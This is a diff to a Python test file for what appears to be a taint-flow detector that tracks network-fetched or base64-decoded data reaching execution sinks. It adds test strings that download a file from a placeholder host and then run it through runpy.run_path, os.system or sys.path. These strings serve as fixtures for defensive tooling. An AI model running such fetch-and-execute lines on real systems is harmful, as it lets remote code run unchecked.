@@ -23,6 +23,18 @@ LONG = "x" * 200
             "import ctypes, requests\nopen('p.dll', 'wb').write(requests.get(x).content)\nctypes.CDLL('p.dll')",
             (C, "ctypes.CDLL", {Taint.NETWORK}),
         ),
+        (
+            "import runpy, urllib.request as u\npath, _ = u.urlretrieve('https://h.invalid/x')\nrunpy.run_path(path)",
+            (C, "runpy.run_path", {Taint.NETWORK}),
+        ),
+        (
+            "import os, urllib.request as u\nos.system(u.urlretrieve('https://h.invalid/x')[0])",
+            (P, "os.system", {Taint.NETWORK}),
+        ),
+        (
+            "import sys, requests\nopen('p.zip', 'wb').write(requests.get(x).content)\nsys.path.insert(0, 'p.zip')",
+            (C, "sys.path.insert", {Taint.NETWORK}),
+        ),
         ("import base64, os\nos.system(base64.b64decode(x))", (P, "os.system", {Taint.DECODED})),
         (
             "import base64, subprocess\nsubprocess.run(['sh', '-c', base64.b64decode(x)])",
@@ -358,3 +370,16 @@ def test_what_is_put_into_a_message_or_archive_leaves_with_it(made: str) -> None
     asks += "from email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\ndef f(p, a, b):\n  "
 
     assert any(sink is Capability.NETWORK and Taint.FILE in taints for sink, _, taints in flows(asks + made))
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import sys\nopen('p.zip', 'wb').write(x)\nsys.path.insert(0, 'p.zip')",
+        "import sys, requests\nopen('p.txt', 'wb').write(requests.get(x).content)\nsys.path.insert(0, 'lib')",
+        "import os, runpy, requests\nname = requests.get(x).text\nrunpy.run_path(os.path.join('jobs', name))",
+    ],
+    ids=["plain data", "another file", "a name that is answered"],
+)
+def test_paths_to_what_is_its_own_are_no_flows(source: str) -> None:
+    assert [] == [flow for flow in flows(source) if flow[0] is C]
